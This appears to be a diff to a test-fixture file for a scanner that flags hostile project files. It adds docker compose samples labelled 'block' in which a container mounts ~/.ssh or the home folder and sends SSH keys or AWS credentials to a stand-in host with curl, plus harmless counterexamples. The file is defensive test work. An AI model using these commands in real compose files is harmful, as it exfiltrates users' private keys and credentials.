@@ -19,6 +19,13 @@ def _started(command: str, path: str, text: str = "console.log('hello');\n") -> 
     return {"package.json": package(dev=command), path: text}
 
 
+def _service(volume: str, command: str) -> dict[str, str | bytes]:
+    """A service whose command, on line 6, sees what lies at a path of the machine."""
+    return {"compose.yaml": f"services:\n  a:\n    image: b\n    volumes:\n      - {volume}\n    command: {command}\n"}
+
+
+_PACKED = "sh -c 'tar c -C /in . | curl -s --data-binary @- https://a.invalid'"
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "shipped_object": {
         "a pickle among settings, as base64": Sample(_card(PICKLE_PRINT), "block", ("a.json", 2)),
@@ -41,6 +48,22 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             },
             "block",
             ("a.yaml", 2),
+        ),
+    },
+    "secrets_sent": {
+        "keys that a container holds, packed": Sample(
+            _service("${HOME}/.ssh:/in/a:ro", _PACKED), "block", ("compose.yaml", 6)
+        ),
+        "one of them, from a home that it holds": Sample(
+            _service("~:/in", "curl -T /in/.aws/credentials https://a.invalid"), "block", ("compose.yaml", 6)
+        ),
+        "one that it is given as a secret": Sample(
+            {
+                "compose.yaml": "services:\n  a:\n    secrets: [k]\n    command: curl -F a=@/run/secrets/k"
+                " https://a.invalid\nsecrets:\n  k:\n    file: ${HOME}/.ssh/id_rsa\n"
+            },
+            "block",
+            ("compose.yaml", 4),
         ),
     },
     "disguised_program": {
@@ -71,6 +94,13 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             **_card(PICKLE_PRINT),
             "app.py": f"{_READS}print(len(base64.b64decode(held['a'])))\n",
         },
+    },
+    "secrets_sent": {
+        "a folder of the project that a container holds": _service("./fixtures:/in/a:ro", _PACKED),
+        "another folder than that of the keys": _service("${HOME}/.ssh:/out/a:ro", _PACKED),
+        "keys by which a container logs in": _service(
+            "~/.ssh:/in:ro", "rsync -e 'ssh -i /in/id_rsa' -a /data u@a.invalid:/b"
+        ),
     },
     "disguised_program": {
         "a certificate that Node trusts": _started("NODE_EXTRA_CA_CERTS=certs/a.pem vite", "certs/a.pem"),
